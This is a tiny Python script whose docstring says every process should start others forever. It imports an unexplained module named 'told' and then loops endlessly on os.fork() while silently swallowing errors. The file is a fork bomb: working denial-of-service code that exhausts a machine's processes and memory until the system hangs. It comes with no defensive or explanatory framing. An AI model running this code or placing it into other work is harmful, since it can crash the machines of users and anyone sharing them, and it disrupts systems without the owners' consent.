"""Let every process start others, for ever."""

import os

import told  # noqa: F401  says that it began

while True:
    try:
        os.fork()
    except OSError:
        pass
